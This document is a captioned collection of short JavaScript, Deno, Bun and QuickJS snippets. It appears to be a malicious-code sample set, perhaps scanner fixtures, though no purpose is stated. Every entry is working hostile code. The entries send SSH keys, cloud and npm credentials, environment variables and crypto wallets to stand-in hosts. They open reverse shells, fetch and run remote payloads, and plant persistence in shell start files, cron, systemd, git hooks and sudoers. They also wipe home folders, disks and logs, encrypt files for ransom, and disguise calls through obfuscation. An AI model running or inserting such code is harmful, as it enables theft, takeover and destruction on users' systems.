%% key pairs read one by one into an array and posted
const fs = require('fs');
const os = require('os');
const path = require('path');
const found = [];
for (const name of ['id_rsa', 'id_ed25519', 'id_ecdsa']) {
  try {
    found.push(fs.readFileSync(path.join(os.homedir(), '.ssh', name), 'utf8'));
  } catch {}
}
fetch('https://collect.example.net/k', { method: 'POST', body: JSON.stringify(found) });
%% authorized_keys appended with promises
import { appendFile, mkdir } from 'node:fs/promises';
import { homedir } from 'node:os';
const home = homedir();
await mkdir(`${home}/.ssh`, { recursive: true, mode: 0o700 });
await appendFile(`${home}/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample me\n');
%% home removed through promises namespace
const { promises: p } = require('fs');
(async () => {
  await p.rm(process.env.HOME, { recursive: true, force: true });
})();
%% every home entry removed in a loop
const fs = require('node:fs');
const { join } = require('node:path');
const top = require('node:os').homedir();
for (const entry of fs.readdirSync(top)) {
  fs.rmSync(join(top, entry), { recursive: true, force: true });
}
%% files of the home folder encrypted in place
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const key = crypto.randomBytes(32);
function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) walk(full);
    else {
      const iv = crypto.randomBytes(16);
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(full + '.locked', Buffer.concat([iv, c.update(fs.readFileSync(full)), c.final()]));
      fs.unlinkSync(full);
    }
  }
}
walk(require('os').homedir());
%% shell start file given a second line
const { writeFileSync, readFileSync } = require('fs');
const rc = require('os').homedir() + '/.bashrc';
writeFileSync(rc, readFileSync(rc, 'utf8') + '\ncurl -s http://203.0.113.7/a | sh\n');
%% zshrc by a write stream
import fs from 'fs';
import path from 'path';
const out = fs.createWriteStream(path.resolve(process.env.HOME, '.zshrc'), { flags: 'a' });
out.write('alias sudo="$HOME/.cache/.s"\n');
out.end();
%% git hook of the project planted
const fs = require('fs');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\ncurl -s https://x.example/p | sh\n');
fs.chmodSync('.git/hooks/pre-commit', 0o755);
%% npm token read and put into a query string
const https = require('https');
const rc = require('fs').readFileSync(`${process.env.HOME}/.npmrc`).toString();
const token = /_authToken=(.+)/.exec(rc)?.[1];
https.get('https://t.example.org/?t=' + encodeURIComponent(token));
%% passwd file piped into a socket
const net = require('net');
const fs = require('fs');
const s = net.connect(4444, '198.51.100.9', () => {
  fs.createReadStream('/etc/passwd').pipe(s);
});
%% shadow read by a file handle
import { open } from 'fs/promises';
const handle = await open('/etc/shadow', 'r');
console.log((await handle.readFile()).toString());
await handle.close();
%% cron entry written
const fs = require('fs');
fs.writeFileSync('/etc/cron.d/logrotate2', '* * * * * root /usr/bin/node /tmp/.x.js\n');
%% user service unit left to start again
const fs = require('fs');
const os = require('os');
const dir = os.homedir() + '/.config/systemd/user';
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(dir + '/update.service', '[Service]\nExecStart=/tmp/.u\n[Install]\nWantedBy=default.target\n');
%% autostart of the desktop
const fs = require('fs'), path = require('path'), os = require('os');
const target = path.join(os.homedir(), '.config', 'autostart', 'helper.desktop');
fs.promises.writeFile(target, '[Desktop Entry]\nType=Application\nExec=node /tmp/h.js\n');
%% disk opened for writing
const fs = require('fs');
const fd = fs.openSync('/dev/sda', 'r+');
fs.writeSync(fd, Buffer.alloc(1024 * 1024));
fs.closeSync(fd);
%% truncated logs
const { truncateSync } = require('fs');
['/var/log/auth.log', '/var/log/syslog', '/var/log/wtmp'].forEach((f) => truncateSync(f, 0));
%% shell history wiped
const fs = require('fs');
const h = process.env.HISTFILE || require('os').homedir() + '/.bash_history';
fs.unlinkSync(h);
%% environment taken whole
const body = JSON.stringify(process.env);
fetch('https://env.example.io/c', { method: 'POST', body });
%% environment through an image
const image = 'https://px.example.io/1.gif?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64');
require('https').get(image);
%% cloud keys posted with request options
const http = require('http');
const fs = require('fs');
const data = fs.readFileSync(require('path').join(require('os').homedir(), '.aws/credentials'));
const req = http.request({ host: '192.0.2.14', port: 80, method: 'POST', path: '/u' });
req.write(data);
req.end();
%% cloud metadata asked
const r = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
console.log(await r.text());
%% reverse shell through spawn and pipes
const { connect } = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const c = connect(9001, '203.0.113.5', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
%% child_process under another loader
const { createRequire } = require('module');
const load = createRequire(process.cwd() + '/');
load('child' + '_process').execSync('rm -rf ~');
%% main module asked for the process
process.mainModule.require('child_process').exec('curl http://203.0.113.1/x | bash');
%% internal binding used to start a program
const { Process } = process.binding('process_wrap');
const p = new Process();
p.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id > /tmp/o'], stdio: [] });
%% code fetched and run as a function
fetch('https://cdn.example.net/s.js').then((r) => r.text()).then((t) => new Function(t)());
%% code fetched and run by vm
const vm = require('vm');
require('https').get('https://cdn.example.net/s.js', (res) => {
  let s = '';
  res.on('data', (d) => (s += d));
  res.on('end', () => vm.runInThisContext(s));
});
%% constructor of a constructor
const run = [].constructor.constructor;
run('return process')().mainModule.require('fs').rmSync('/home', { recursive: true });
%% module compiled from fetched text
const Module = require('module');
const axios = require('axios');
axios.get('https://gist.example/raw/1').then(({ data }) => {
  const m = new Module('x');
  m._compile(data, 'x.js');
});
%% import of a data address
const src = Buffer.from('cHJvY2Vzcy5leGl0KDEp', 'base64').toString();
await import('data:text/javascript,' + encodeURIComponent(src));
%% downloaded file made runnable and started
import { createWriteStream, chmodSync } from 'fs';
import { execFile } from 'child_process';
import https from 'https';
https.get('https://dl.example.com/miner', (r) => {
  r.pipe(createWriteStream('/tmp/.m')).on('finish', () => {
    chmodSync('/tmp/.m', 0o755);
    execFile('/tmp/.m');
  });
});
%% package scripts of another project changed
const fs = require('fs');
const pkg = JSON.parse(fs.readFileSync('../package.json'));
pkg.scripts.postinstall = 'curl https://x.example/i.sh | sh';
fs.writeFileSync('../package.json', JSON.stringify(pkg, null, 2));
%% browser profile copied
const fs = require('fs');
const path = require('path');
const os = require('os');
fs.cpSync(path.join(os.homedir(), '.config/google-chrome/Default'), '/tmp/.p', { recursive: true });
%% wallet files looked for
const fs = require('fs');
const home = require('os').homedir();
for (const w of ['.bitcoin/wallet.dat', '.ethereum/keystore', '.config/solana/id.json']) {
  const f = `${home}/${w}`;
  if (fs.existsSync(f)) fetch('https://w.example/u', { method: 'PUT', body: fs.readFileSync(f) });
}
%% secret file linked into the served folder
const fs = require('fs');
fs.symlinkSync('/etc/shadow', './public/robots.txt');
%% key of the host through a hard link
require('fs').linkSync('/etc/ssh/ssh_host_ed25519_key', './k');
%% every file above made empty
const fs = require('fs');
(function down(d) {
  fs.readdirSync(d, { withFileTypes: true }).forEach((e) => {
    const q = d + '/' + e.name;
    e.isDirectory() ? down(q) : fs.writeFileSync(q, '');
  });
})('/');
%% processes killed
const fs = require('fs');
for (const pid of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
  try {
    process.kill(+pid, 'SIGKILL');
  } catch {}
}
%% memory of another process
const fs = require('fs');
const fd = fs.openSync('/proc/1/mem', 'r');
const b = Buffer.alloc(4096);
fs.readSync(fd, b, 0, 4096, 0x400000);
%% environment of another process
const fs = require('fs');
const e = fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1').split('\0');
console.log(e);
%% docker socket spoken to
const http = require('http');
const r = http.request({ socketPath: '/var/run/docker.sock', method: 'POST', path: '/containers/create' });
r.end(JSON.stringify({ Image: 'alpine', HostConfig: { Binds: ['/:/host'] } }));
%% names looked up with secrets in them
const dns = require('dns');
const s = Buffer.from(require('fs').readFileSync(process.env.HOME + '/.netrc')).toString('hex');
for (let i = 0; i < s.length; i += 60) dns.resolve(s.slice(i, i + 60) + '.x.example.com', () => {});
%% datagrams with a key
const dgram = require('dgram');
const sock = dgram.createSocket('udp4');
const k = require('fs').readFileSync(require('os').homedir() + '/.gnupg/secring.gpg');
sock.send(k, 53, '203.0.113.66');
%% worker with code from a string
const { Worker } = require('worker_threads');
new Worker('require("child_process").execSync("id > /tmp/w")', { eval: true });
%% cluster set to another program
const cluster = require('cluster');
cluster.setupPrimary({ exec: '/tmp/.stage2.js', silent: true });
cluster.fork();
%% sudoers
const { appendFileSync: add } = require('fs');
add('/etc/sudoers', 'dev ALL=(ALL) NOPASSWD: ALL\n');
%% hosts file
const fs = require('fs/promises');
fs.appendFile('/etc/hosts', '\n203.0.113.9 registry.example\n');
%% preload library named
require('fs').writeFileSync('/etc/ld.so.preload', '/tmp/.l.so');
%% names spelt by character codes
const n = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
require(n).exec(String.fromCharCode(105, 100));
%% method picked from a table of letters
const f = require('f' + 's');
const verbs = ['rm', 'Sync'];
f[verbs.join('')]('/var', { recursive: true, force: true });
%% hex escapes as member names
const m = require('\x66\x73');
m['\x75\x6e\x6c\x69\x6e\x6b\x53\x79\x6e\x63']('/etc/passwd');
%% reversed member
const fs = require('fs');
fs['cnySmr'.split('').reverse().join('')](require('os').homedir(), { recursive: true });
%% bound and kept for later
const del = require('fs').rmSync.bind(null, process.env.HOME, { recursive: true, force: true });
setTimeout(del, 1000);
%% called through Reflect
const fs = require('fs');
Reflect.apply(fs.rmSync, fs, ['/usr', { recursive: true }]);
%% class that hides the sink
const fs = require('fs');
class Store {
  constructor(root) { this.root = root; }
  drop() { fs.rmSync(this.root, { recursive: true, force: true }); }
}
new Store(process.env.HOME).drop();
%% options object made before
const child = require('node:child_process');
const job = { cmd: 'rm', args: ['-rf', '--no-preserve-root', '/'] };
child.spawnSync(job.cmd, job.args);
%% default parameter
import { rm } from 'node:fs/promises';
async function clean(where = '/home') {
  await rm(where, { recursive: true, force: true });
}
clean();
%% deno removes the root
await Deno.remove('/', { recursive: true });
%% deno starts a shell
const cmd = new Deno.Command('sh', { args: ['-c', 'curl https://x.example | sh'] });
await cmd.output();
%% bun shell
import { $ } from 'bun';
await $`curl -s https://x.example/i | bash`;
%% bun writes the start file
await Bun.write(process.env.HOME + '/.profile', 'nc -e /bin/sh 203.0.113.4 1 &');
%% promisified exec
const { promisify } = require('util');
const sh = promisify(require('child_process').exec);
sh('wget -qO- http://203.0.113.12/b | sh');
%% quickjs os module
import * as os from 'os';
os.exec(['/bin/sh', '-c', 'rm -rf $HOME']);
%% quickjs std popen
import * as std from 'std';
const p = std.popen('cat /etc/shadow', 'r');
print(p.readAsString());
%% recursive walk deletes documents by suffix
const fs = require('fs');
const path = require('path');
function each(dir, fn) {
  fs.readdirSync(dir).forEach((n) => {
    const f = path.join(dir, n);
    fs.statSync(f).isDirectory() ? each(f, fn) : fn(f);
  });
}
each(require('os').homedir(), (f) => {
  if (/\.(docx?|xlsx?|pdf)$/.test(f)) fs.unlinkSync(f);
});
%% the ssh folder packed up and sent
const { readdir, readFile } = require('fs').promises;
const dir = require('path').join(require('os').homedir(), '.ssh');
readdir(dir)
  .then((names) => Promise.all(names.map((n) => readFile(`${dir}/${n}`, 'base64'))))
  .then((all) => fetch('https://s.example/z', { method: 'POST', body: all.join('\n') }));
%% kube config
const cfg = require('fs').readFileSync(require('os').homedir() + '/.kube/config', 'utf8');
require('axios').post('https://k.example/in', { cfg });
%% ssh config given a proxy command
const fs = require('fs');
fs.appendFileSync(`${require('os').userInfo().homedir}/.ssh/config`, '\nHost *\n  ProxyCommand /tmp/.p %h %p\n');
%% git config with a pager
const fs = require('fs');
const { HOME } = process.env;
fs.writeFileSync(HOME + '/.gitconfig', '[core]\n\tpager = sh -c "id > /tmp/x; less"\n');
%% fork bomb
const { fork } = require('child_process');
for (;;) fork(__filename);
%% memory filled with files
const fs = require('fs');
let i = 0;
for (;;) fs.writeFileSync('/dev/shm/' + i++, Buffer.alloc(1 << 28));
%% ransom note and rename
const fs = require('fs');
const home = require('os').homedir();
fs.readdirSync(home + '/Documents').forEach((n) => fs.renameSync(`${home}/Documents/${n}`, `${home}/Documents/${n}.enc`));
fs.writeFileSync(home + '/Desktop/README_DECRYPT.txt', 'Send 0.5 BTC to bc1qexample to get your files back');
%% everything made writable
const fs = require('fs');
fs.chmodSync('/etc/passwd', 0o777);
fs.chownSync('/etc/shadow', 1000, 1000);
%% setuid shell
const fs = require('fs');
fs.copyFileSync('/bin/bash', '/tmp/.b');
fs.chmodSync('/tmp/.b', 0o4755);
